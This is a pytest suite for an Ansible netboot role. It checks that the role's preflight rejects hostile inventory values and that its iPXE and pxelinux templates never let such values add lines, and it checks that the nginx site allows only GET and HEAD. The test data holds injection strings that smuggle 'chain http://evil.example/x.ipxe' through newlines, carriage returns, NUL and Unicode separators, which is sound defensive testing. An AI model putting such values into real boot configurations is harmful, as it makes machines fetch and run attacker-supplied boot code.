"""roles/netboot: hostile inventory values never add a line to a host's iPXE script or pxelinux menu.

Every case runs through ONE ansible-playbook run (loops over cases, errors ignored per item):

* the role's first preflight task (taken from roles/netboot/tasks/preflight.yml, run with the role's
  defaults and vars) must report each hostile value, naming its field;
* host.ipxe.j2 and pxelinux.cfg.j2 (with cmdline.j2 through the lookup, as in the role), rendered by
  Ansible's template module straight from the hostile values (as if the preflight were bypassed),
  must either fail, or render only the directive lines of the template: no value can add one.

nginx-site.conf.j2: when nginx is installed, the rendered site is served on a free local port and
every method but GET and HEAD must be refused, in `location /` and in the `.ipxe` regex location.
"""

from __future__ import annotations

import grp
import json
import os
import pwd
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.support.playbook import REPO, run_play_json

ROLE = REPO / "roles" / "netboot"
GOOD_HOST: dict[str, Any] = {
    "name": "c4140",
    "hostname": "c4140",
    "mac": "52:54:00:12:34:56",
    "mac_file": "52-54-00-12-34-56",
    "ip": "10.42.64.92",
    "image": "debian-bookworm",
    "version": "0123456789ab",
    "key": "debian-bookworm/0123456789ab",
    "root": "/srv/diskless/images/debian-bookworm/0123456789ab/root",
    "etc": "/srv/diskless/hosts/c4140/etc",
    "kernel_params": "intel_iommu=on iommu=pt vfio-pci.ids=10de:1db1",
}
# The line a hostile value tries to add to the script.
EVIL = "chain http://evil.example/x.ipxe"
HOSTILE_KERNEL_PARAMS = {
    "newline": f"quiet\n{EVIL}",
    "carriage_return": f"quiet\r{EVIL}",
    "crlf": f"quiet\r\n{EVIL}\r\n",
    "double_quote": 'quiet" ; chain x',
    "single_quote": "quiet' x",
    "hash": f"quiet #{EVIL}",
    "nul": f"quiet\0{EVIL}",
    "unicode_line_separator": f"quiet\u2028{EVIL}",
    "unicode_next_line": f"quiet\x85{EVIL}",
    "unicode_letters": "quiet café=ü",
    "tab": f"quiet\t{EVIL}",
    "very_long": "a" * 5000,
}
HOSTILE_OTHER = {
    "name_newline": {"name": f"c4140\n{EVIL}"},
    "hostname_trailing_newline": {"hostname": "c4140\n"},
    "hostname_newline": {"hostname": f"c4140\n{EVIL}"},
    "image_newline": {"boot_image": f"debian\n{EVIL}", "image": f"debian\n{EVIL}", "key": f"debian\n{EVIL}/0123456789ab"},
}
CASES: dict[str, dict[str, Any]] = {
    "good": GOOD_HOST,
    **{f"kernel_params_{name}": GOOD_HOST | {"kernel_params": value} for name, value in HOSTILE_KERNEL_PARAMS.items()},
    **{name: GOOD_HOST | values for name, values in HOSTILE_OTHER.items()},
}
# The lines each template may render (first word); anything else is a line a value added.
IPXE_DIRECTIVES = ["#!ipxe", "echo", "kernel", "initrd", "boot"]
PXELINUX_DIRECTIVES = ["DEFAULT", "PROMPT", "TIMEOUT", "LABEL", "KERNEL", "INITRD", "APPEND"]


def role_vars() -> dict[str, Any]:
    return {**yaml.safe_load((ROLE / "defaults" / "main.yml").read_text()), **yaml.safe_load((ROLE / "vars" / "main.yml").read_text())}


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    out = tmp_path_factory.mktemp("netboot")
    (out / "templates").symlink_to(ROLE / "templates")
    preflight = yaml.safe_load((ROLE / "tasks" / "preflight.yml").read_text())[0]
    assert "__netboot_problems" in preflight["ansible.builtin.set_fact"]
    preflight = preflight | {
        "vars": {"netboot_hosts": "{{ [item.value] }}", "netboot_server": "10.42.64.1", "netboot_subnet": "10.42.64.0/24"},
        "loop": "{{ cases | dict2items }}",
        "register": "preflight",
    }
    render = {"vars": {"host": "{{ item.value }}", "netboot_server": "10.42.64.1"}, "loop": "{{ cases | dict2items }}", "ignore_errors": True}
    play = [
        {
            "hosts": "localhost",
            "gather_facts": False,
            "connection": "local",
            "vars": {"ansible_python_interpreter": sys.executable, **role_vars()},
            "tasks": [
                preflight,
                {"name": "host.ipxe", "ansible.builtin.template": {"src": "host.ipxe.j2", "dest": f"{out}/{{{{ item.key }}}}.ipxe", "mode": "0644"}, **render},
                {"name": "pxelinux", "ansible.builtin.template": {"src": "pxelinux.cfg.j2", "dest": f"{out}/{{{{ item.key }}}}.cfg", "mode": "0644"}, **render},
                {"name": "nginx", "ansible.builtin.template": {"src": "nginx-site.conf.j2", "dest": f"{out}/nginx-site.conf", "mode": "0644"}},
            ],
        }
    ]
    proc = run_play_json(play, out, {"cases": CASES})
    try:
        report = json.loads(proc.stdout)
    except json.JSONDecodeError as exc:
        raise AssertionError(f"ansible-playbook printed no JSON:\n{proc.stdout}\n{proc.stderr}") from exc
    tasks = report["plays"][0]["tasks"]
    by_task = {task["task"]["name"]: task["hosts"]["localhost"] for task in tasks}
    assert not by_task["nginx"].get("failed"), by_task["nginx"]
    return {
        "out": out,
        "preflight": {r["item"]["key"]: r["ansible_facts"]["__netboot_problems"] for r in by_task[preflight["name"]]["results"]},
        "host.ipxe": {r["item"]["key"]: r for r in by_task["host.ipxe"]["results"]},
        "pxelinux": {r["item"]["key"]: r for r in by_task["pxelinux"]["results"]},
    }


def directive_lines(text: str) -> list[str]:
    """The lines of a rendered file that are not comments, by their first word."""
    lines = [line.strip(" ") for line in text.split("\n")]
    return [line.split(" ", 1)[0] for line in lines if line and not line.startswith("# ") and line != "#"]


def test_good_host_passes_and_renders(rendered: dict[str, Any]) -> None:
    assert rendered["preflight"]["good"] == []
    ipxe = (rendered["out"] / "good.ipxe").read_text()
    assert directive_lines(ipxe) == IPXE_DIRECTIVES
    assert f"nfsroot=10.42.64.1:{GOOD_HOST['root']},tcp" in ipxe
    assert ipxe.rstrip("\n").split("\n")[-3].endswith(f"console=tty0 console=ttyS0,115200n8 {GOOD_HOST['kernel_params']}")
    pxelinux = (rendered["out"] / "good.cfg").read_text()
    assert directive_lines(pxelinux) == PXELINUX_DIRECTIVES
    assert f"APPEND BOOTIF=01-{GOOD_HOST['mac_file']} ip=dhcp" in pxelinux


@pytest.mark.parametrize("case", [name for name in CASES if name != "good"])
def test_preflight_reports_hostile_value(rendered: dict[str, Any], case: str) -> None:
    problems = rendered["preflight"][case]
    field = "kernel_params" if case.startswith("kernel_params_") else case.split("_", 1)[0]
    assert any(field in problem for problem in problems), problems


@pytest.mark.parametrize("template", ["host.ipxe", "pxelinux"])
@pytest.mark.parametrize("case", [name for name in CASES if name != "good"])
def test_template_never_emits_an_extra_line(rendered: dict[str, Any], template: str, case: str) -> None:
    result = rendered[template][case]
    expected = IPXE_DIRECTIVES if template == "host.ipxe" else PXELINUX_DIRECTIVES
    if result.get("failed"):
        assert "cannot be written into a boot script" in result["msg"] or "kernel command line" in result["msg"], result["msg"]
        return
    text = Path(result["dest"]).read_bytes().decode()
    assert "\r" not in text and "\0" not in text and "\u2028" not in text
    assert directive_lines(text) == expected, text


def test_every_hostile_value_a_template_writes_fails_it(rendered: dict[str, Any]) -> None:
    """Stricter than no extra line: the templates refuse every hostile value they write (the hash and unicode too).

    Both write the host name: in the sealed /etc's URL (diskless.etc_bundle) of the kernel command line.
    """
    hostile = [case for case in CASES if case != "good"]
    rendered_anyway = [f"{template}:{case}" for template in ("host.ipxe", "pxelinux") for case in hostile if not rendered[template][case].get("failed")]
    assert rendered_anyway == [], rendered_anyway


def test_nginx_every_location_is_get_and_head_only(rendered: dict[str, Any]) -> None:
    """A regex location wins over `location /`: each location must carry limit_except itself.

    (nginx's static handler refuses most other methods on its own, so the live test below cannot tell a
    location without the rule from one with it; this reads the rule in the rendered site.)
    """
    site = (rendered["out"] / "nginx-site.conf").read_text()
    locations = re.findall(r"^\s*location\b[^{]*\{(.*?)^\s*\}", site, flags=re.DOTALL | re.MULTILINE)
    assert len(locations) == len(re.findall(r"^\s*location\b", site, flags=re.MULTILINE)), site
    assert len(locations) >= 2
    for body in locations:
        assert "limit_except GET HEAD { deny all; }" in body, body
    assert re.search(r"if \(\$request_method !~ \^\(GET\|HEAD\)\$\) \{\s*return 405;", site), site


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def request(url: str, method: str) -> int:
    try:
        with urllib.request.urlopen(urllib.request.Request(url, method=method, data=b"x" if method in ("POST", "PUT") else None), timeout=5) as response:
            return int(response.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)


@pytest.mark.skipif(shutil.which("nginx") is None, reason="nginx is not installed")
def test_nginx_allows_only_get_and_head_everywhere(rendered: dict[str, Any]) -> None:
    out: Path = rendered["out"]
    root = out / "www"
    (root / "ipxe").mkdir(parents=True)
    (root / "ipxe" / "52-54-00-12-34-56.ipxe").write_text("#!ipxe\n")
    (root / "vmlinuz").write_text("kernel\n")
    port = free_port()
    site = (out / "nginx-site.conf").read_text()
    site = site.replace("listen 80 default_server;", f"listen 127.0.0.1:{port} default_server;").replace("root /srv/diskless/boot;", f"root {root};")
    assert str(root) in site and str(port) in site
    (out / "site.conf").write_text(site)
    (out / "nginx.conf").write_text(
        # workers as this user (ignored unless root): they must read the test's private directory
        f"user {pwd.getpwuid(os.getuid()).pw_name} {grp.getgrgid(os.getgid()).gr_name};\n"
        f"daemon off; pid {out}/nginx.pid; error_log {out}/error.log; events {{}}\n"
        f"http {{ access_log off; client_body_temp_path {out}/body; include {out}/site.conf; }}\n"
    )
    proc = subprocess.Popen(["nginx", "-p", str(out), "-c", str(out / "nginx.conf")], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        for _attempt in range(50):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                assert proc.poll() is None, proc.communicate()
                time.sleep(0.1)
        for path in ("/ipxe/52-54-00-12-34-56.ipxe", "/vmlinuz"):
            url = f"http://127.0.0.1:{port}{path}"
            assert request(url, "GET") == 200, path
            assert request(url, "HEAD") == 200, path
            for method in ("POST", "PUT", "DELETE", "OPTIONS", "PATCH"):
                assert request(url, method) in (403, 405), (path, method)
    finally:
        proc.terminate()
        proc.wait(timeout=10)
